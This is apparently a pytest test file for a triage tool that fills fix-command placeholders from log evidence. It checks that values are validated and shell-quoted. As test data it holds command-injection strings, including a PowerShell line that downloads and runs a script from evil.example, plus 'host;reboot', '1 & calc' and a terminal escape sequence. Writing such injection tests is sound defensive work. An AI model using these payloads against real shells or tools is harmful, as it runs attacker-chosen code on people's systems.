"""Values captured from evidence never make a fix command do something else: each placeholder
has a kind (kb/language/placeholders.md), a value must fit it, and it is quoted for the
command's shell or left out with a note (issue 13, items 1 and 9)."""

import functools
import json

import pytest
from support import KB, run_triage

from engine.inference.fixes import render_fix
from engine.inference.quoting import Filler
from engine.kb import loader

HOSTILE = "x; Invoke-Expression (iwr http://evil.example/p.ps1) #"
IMAP_ROW = ("2017-05-04T09:12:44.518Z,0000000000001A2F,4,10.10.5.21:1993,10.10.5.20:61322,"
            "{user},1543,27,121,select,INBOX,R=OK;Rows=40211;Recent=0;"
            "Msg=UidCorruptionDetected13;Unseen=1240,\n")


def imap_log(tmp_path, user: str):
    path = tmp_path / "IMAP4BE20170504-1.LOG"
    path.write_text("#Software: Microsoft Exchange Server\n" + IMAP_ROW.format(user=user),
                    encoding="utf-8")
    return path


def commands_of(diagnosis: dict) -> list[str]:
    fix = diagnosis["fix"]
    steps = fix["steps"] + fix["verify"]["steps"]
    return [c["code"] for step in steps for c in step["commands"]] + \
        [c["code"] for c in fix["verify"]["commands"]]


def test_a_hostile_mailbox_in_a_log_never_reaches_a_command(tmp_path):
    log = imap_log(tmp_path, HOSTILE)
    result = run_triage("diagnose", "--evidence", str(log), "--json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    top = data["diagnoses"][0]
    assert top["id"] == "imap-uid-corruption"
    codes = commands_of(top)
    assert codes and not any("Invoke-Expression" in code or "evil" in code for code in codes)
    assert "New-MailboxRepairRequest -Mailbox <mailbox> -CorruptionType ImapID" in codes
    assert "mailbox" not in top["fix"]["filled"]
    refused = top["fix"]["refused"]
    assert [(r["placeholder"], r["kind"], r["value"]) for r in refused] == \
        [("mailbox", "mailbox", HOSTILE)]
    assert refused[0]["note"] == ("<mailbox> not filled: the captured value "
                                  "'x; Invoke-Expression (iwr http://evil.e…' is not a "
                                  "mailbox name")

    human = run_triage("diagnose", "--evidence", str(log))
    assert human.returncode == 0, human.stderr
    text = " ".join(human.stdout.split())
    assert "Not filled in: <mailbox> not filled: the captured value" in text
    assert "is not a mailbox name" in text
    command_lines = [line for line in human.stdout.splitlines()
                     if line.startswith("New-MailboxRepairRequest")]
    assert command_lines == ["New-MailboxRepairRequest -Mailbox <mailbox> -CorruptionType ImapID"]


def test_a_real_mailbox_is_filled_in_quoted(tmp_path):
    log = imap_log(tmp_path, "O'Brien@contoso.com")
    data = json.loads(run_triage("diagnose", "--evidence", str(log), "--json").stdout)
    top = data["diagnoses"][0]
    assert "New-MailboxRepairRequest -Mailbox 'O''Brien@contoso.com' -CorruptionType ImapID" \
        in commands_of(top)
    assert top["fix"]["filled"] == {"mailbox": "O'Brien@contoso.com"}
    assert top["fix"]["refused"] == []


@functools.lru_cache(maxsize=1)
def bundled_kinds() -> dict[str, str]:
    return loader.load_kb(KB).kb.placeholder_kinds()


def fill(code: str, language: str, **values: str) -> tuple[str, Filler]:
    filler = Filler(values, bundled_kinds())
    return filler.command(code, language), filler


@pytest.mark.parametrize("code, value, expected", [
    # a whole argument: single-quoted, every kind of single quote doubled
    ("Get-Mailbox -Identity <mailbox>", "Room 101", "Get-Mailbox -Identity 'Room 101'"),
    ("Get-Mailbox -Identity <mailbox>", "o'neil@contoso.com",
     "Get-Mailbox -Identity 'o''neil@contoso.com'"),
    ("Set-Mailbox -User:<mailbox>", "jdoe", "Set-Mailbox -User:'jdoe'"),
    # already in quotes in the KB
    ('Set-Mailbox -Identity "<mailbox>" -X 1', "Room 101", 'Set-Mailbox -Identity "Room 101" -X 1'),
    ("Get-Mailbox '<mailbox>'", "o'neil", "Get-Mailbox 'o''neil'"),
    # glued to other text outside quotes: plain values only
    ("Dismount-Database <mailbox>\\SG1", "ex01", "Dismount-Database ex01\\SG1"),
    ("Dismount-Database <mailbox>\\SG1", "Room 101", "Dismount-Database <mailbox>\\SG1"),
    # in a comment: plain only
    ("Get-Date # for <mailbox>", "Room 101", "Get-Date # for <mailbox>"),
])
def test_powershell_quoting_by_place(code, value, expected):
    assert fill(code, "powershell", mailbox=value)[0] == expected


@pytest.mark.parametrize("value", [
    HOSTILE, "a$(calc)", "a`nb", "x\ny", "-Confirm:$false", "a\u2019; calc", "a\u201d; calc",
    "'; calc; '", "a\x1b]52;c;ZWNobyBoaQ==\x07", "@splat", "x" * 300, "",
])
def test_values_that_are_not_mailboxes_are_refused_everywhere(value):
    for code, language in (("Get-Mailbox <mailbox>", "powershell"),
                           ('Get-Mailbox "<mailbox>"', "powershell"),
                           ("Get-Mailbox '<mailbox>'", "powershell"),
                           ("nslookup <mailbox>", "cmd"), ("utils network ping <mailbox>", "cli")):
        filled, filler = fill(code, language, mailbox=value)
        assert filled == code
        assert filler.filled == {} and "mailbox" in filler.refused


@pytest.mark.parametrize("code, language, value, expected", [
    ("utils network ping <server> 10", "cli", "cucm-pub.contoso.com",
     "utils network ping cucm-pub.contoso.com 10"),
    ("utils network ping <server> 10", "cli", "10.0.0.1", "utils network ping 10.0.0.1 10"),
    ("sc \\\\<server> start RemoteRegistry", "cmd", "ex01", "sc \\\\ex01 start RemoteRegistry"),
    ('tasklist /fi "PID eq <pid>"', "cmd", "4711", 'tasklist /fi "PID eq 4711"'),
    ("HKCU\\Profiles\\<profile>\\13db", "registry", "Outlook", "HKCU\\Profiles\\Outlook\\13db"),
])
def test_strict_shells_take_plain_values(code, language, value, expected):
    name = code.split("<")[1].split(">")[0]
    assert fill(code, language, **{name: value})[0] == expected


@pytest.mark.parametrize("code, language, name, value", [
    ("utils network ping <server> 10", "cli", "server", "a b"),          # not a host at all
    ('tasklist /fi "PID eq <pid>"', "cmd", "pid", "1 & calc"),
    ("HKCU\\Profiles\\<profile>\\13db", "registry", "profile", "My Outlook"),   # a name, unquotable
    ("utils network ping <server> 10", "cli", "server", "host;reboot"),
])
def test_strict_shells_refuse_what_they_cannot_take(code, language, name, value):
    filled, filler = fill(code, language, **{name: value})
    assert filled == code and name in filler.refused


def test_manual_and_unknown_placeholders_are_never_filled():
    filled, filler = fill("Set-X -Value <value> -Other <nokind>", "powershell", value="1",
                          nokind="1")
    assert filled == "Set-X -Value <value> -Other <nokind>"
    assert set(filler.refused) == {"value", "nokind"}


def test_prose_values_are_escaped_for_markdown():
    kinds = {"mailbox": "mailbox"}
    filler = Filler({"mailbox": "a_b@contoso.com"}, kinds)
    assert filler.prose("Repair <mailbox> now; run `Get-Mailbox <mailbox>`.") == \
        "Repair a\\_b\\@contoso\\.com now; run `Get-Mailbox a_b@contoso.com`."


def test_every_fix_renders_with_hostile_captures_without_filling_them():
    kb = loader.load_kb(KB).kb
    kinds = bundled_kinds()
    values = {name: HOSTILE for name in kinds}
    for entry in kb.entries:
        fix = render_fix(entry, values, kinds)
        assert fix.filled == {}
        data = fix.as_dict()
        data.pop("refused")
        assert "Invoke-Expression" not in json.dumps(data)
